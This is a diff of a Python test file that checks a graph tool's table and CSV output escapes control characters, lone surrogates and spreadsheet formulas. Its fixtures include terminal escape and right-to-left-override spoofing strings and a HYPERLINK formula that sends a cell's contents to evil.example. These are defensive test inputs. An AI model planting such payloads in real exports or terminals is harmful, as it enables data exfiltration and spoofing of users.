@@ -9,6 +9,7 @@ import handmade
 from conftest import cli
 from polgraph.api import PolGraph
 from polgraph.graph.loader import Loader
+from polgraph.output import render
 
 ESCAPE_TITLE = "Red \x1b[31malert\x1b]0;owned\x07 line\roverwritten \u202etxt.exe"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -41,3 +42,11 @@ def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(home):
     assert {r["confidence"] for r in rows} == {"0.8"}  # numbers stay numbers
     negative = cli("cypher", "RETURN -1.5 AS n, $t AS t", "-p", "t=-1.5", "--format", "csv")
     assert negative.stdout.splitlines()[1] == "-1.5,'-1.5"  # a number as is; the same as text, quoted
+
+
+def test_a_table_escapes_what_error_lines_escape_a_lone_surrogate_too():
+    """The table had a copy of the escaping of error lines, without lone surrogates: one raw in a
+    cell cannot even be written to a UTF-8 terminal. Now both use `core.errors.printable`."""
+    table = render([{"title": "cut \ud800 here", "who": "A\u2066B"}], "table")
+    assert "cut \\ud800 here" in table and "A\\u2066B" in table
+    table.encode("utf-8")
